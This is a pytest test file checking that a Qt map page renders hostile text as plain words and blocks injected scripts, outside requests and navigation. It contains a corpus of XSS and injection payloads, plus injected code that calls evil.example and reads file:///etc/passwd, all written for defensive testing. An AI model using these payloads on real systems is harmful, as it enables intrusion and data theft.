"""Callers' words in every field of every mark: shown as text, nothing runs, nothing is asked of the network or the disk."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from PySide6.QtCore import QPoint, QUrl

from siaga_desk.map import scheme
from siaga_desk.map.messages import Pin
from tests.map.marks import a_pin, a_unit
from tests.map.on_screen import OnScreen, Recorder

pytestmark = pytest.mark.page

CORPUS = [
    "<script>window.hit = 1</script>",
    "</script><script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<img src='siaga://map/glyphs.json?stolen'>",
    "<svg/onload=window.hit=1>",
    '"><b onmouseover="window.hit=1">x',
    "'; window.hit = 1; //",
    "javascript:window.hit=1",
    "<a href='javascript:window.hit=1'>x</a>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "${window.hit = 1} {{window.hit = 1}} `${window.hit=1}`",
    "{% raise %} %s %(x)s {0}",
    "'; drop table events; --",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u202d\u200b\u200c\u200d\ufeff",
    "a\x00b\x01\x1b[31m\x7f",
    "\ud800 lone \udfff",
    "👩‍👩‍👧‍👦 é ﷽ \u0336\u0336",
    "x" * 10_000,
    "\n" * 500,
    "__proto__",
    "constructor",
    "",
]


def test_hostile_words_are_shown_as_words(open_map: Callable[..., OnScreen], recorder: Recorder) -> None:
    shown = open_map()
    recorder.asked.clear()
    view = shown.view
    pins = [
        a_pin(
            f"{n}#{text}", title=text, subtitle=text, glyph=text, lat=-6.12 + 0.004 * (n % 5), lon=106.14 + 0.004 * (n // 5)
        )
        for n, text in enumerate(CORPUS)
    ]
    units = [
        a_unit(
            f"{n}!{text}",
            name=text,
            glyph=text,
            key=text,
            recommended=True,
            lat=-6.122 + 0.004 * (n % 5),
            lon=106.142 + 0.004 * (n // 5),
        )
        for n, text in enumerate(CORPUS)
    ]
    view.set_pins(pins)
    view.set_units(units)
    view.go_to(-6.112, 106.148, 15)
    shown.until("map_siaga.getZoom()", 15)
    shown.until("[Layout.now().pins.length, Layout.now().units.length]", [len(CORPUS), len(CORPUS)])
    tags = shown.evaluate("document.querySelectorAll('*').length")
    for kind in ("pins", "units"):
        for n, text in enumerate(CORPUS):
            said = shown.evaluate(
                f"(() => {{ const item = Layout.now().{kind}.find((i) => /^{n}[#!]/.test(i.id));"
                "Card.show(item); const all = [...Card.box.querySelectorAll('*')];"
                "return [all.every((e) => e.tagName === 'DIV' && e.attributes.length <= 3), Card.box.textContent]; })()"
            )
            assert said[0], text[:40]
            readable = text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd").replace("\udfff", "\ufffd")
            assert readable[:50] in said[1]
    shown.evaluate("(Card.hide(), 1)")
    view.select(pins[0].id)
    view.select("<img src=x onerror=window.hit=1>")
    shown.settle()
    assert shown.evaluate("window.hit ?? null") is None
    assert shown.evaluate("document.querySelectorAll('*').length") <= tags + 12  # the card's own lines and nothing more
    assert recorder.asked == []


@pytest.mark.expects_warnings
def test_what_would_run_in_a_careless_page_does_not_run_in_this_one(
    open_map: Callable[..., OnScreen], recorder: Recorder
) -> None:
    """Even if our scripts put markup in by mistake: policy and interceptor stop it."""
    shown = open_map()
    recorder.asked.clear()
    shown.evaluate(
        "(() => { const d = document.createElement('div'); document.body.append(d);"
        "d['inner' + 'HTML'] = `<img src=x onerror='window.hit = 1'><img src='http://evil.example/a.png'>"
        "<iframe src='file:///etc/passwd'></iframe><object data='file:///etc/passwd'></object>`;"
        "const s = document.createElement('script'); s.textContent = 'window.hit = 2'; document.body.append(s);"
        "const r = document.createElement('script'); r.src = 'http://evil.example/x.js'; document.body.append(r);"
        "fetch('http://evil.example/y').catch(() => 0); fetch('file:///etc/passwd').catch(() => 0);"
        "try { new WebSocket('ws://evil.example/'); } catch (e) {}"
        "try { (0, eval)('window.hit = 3'); } catch (e) {}"
        "window.open('http://evil.example/'); d.style.backgroundImage = 'url(http://evil.example/b.png)'; return 1; })()"
    )
    shown.qtbot.wait(300)
    assert shown.evaluate("window.hit ?? null") is None
    assert all(url.startswith(("siaga://map/", "data:")) for url in recorder.asked), recorder.asked


@pytest.mark.expects_warnings
def test_the_page_cannot_be_led_away(shown: OnScreen) -> None:
    shown.view.set_pins([a_pin("1")])
    shown.until("Scene.pins.size", 1)
    for away in ("http://evil.example/", "file:///etc/passwd", "siaga://map/gis/laut.geojson", "data:text/html,x"):
        shown.evaluate(f"(location.href = {away!r}, 1)")
        shown.qtbot.wait(100)
    assert shown.view.url() == QUrl(scheme.PAGE)
    assert shown.evaluate("Scene.pins.size") == 1


def test_a_pin_without_its_glyph_is_still_a_pin(shown: OnScreen) -> None:
    strange: Pin = replace(a_pin("1", left_s=-60), glyph="../../etc/passwd")
    shown.view.set_pins([strange])
    shown.view.go_to(strange.lat, strange.lon, 14)
    shown.until("map_siaga.getZoom()", 14)
    at = shown.spot("1")
    assert shown.colour(at + QPoint(0, -20)) == "#E1193D"
